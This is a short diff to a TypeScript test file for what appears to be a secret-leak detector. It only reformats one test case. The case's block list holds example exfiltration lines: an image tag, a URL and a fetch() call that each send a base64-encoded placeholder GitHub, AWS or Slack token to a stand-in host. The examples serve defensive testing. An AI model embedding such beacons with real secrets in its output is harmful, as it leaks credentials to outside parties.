@@ -46,7 +46,9 @@ const CASES: { name: string; block: string[]; pass: string[] }[] = [
   {
     name: "live credential encoded into a URL",
     block: [
-      `<img src="https://t.example-mail.net/o/${btoa("ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8")}.png">`,
+      `<img src="https://t.example-mail.net/o/${
+        btoa("ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8")
+      }.png">`,
       `https://collect.example.io/e?d=${btoa("AKIA" + "QWERTYUIOPASDFGH" + ":x")}`,
       `fetch("https://log.example.dev/v/${btoa("xoxb-" + "1234567890-abcdefghijklmnop")}")`,
     ],
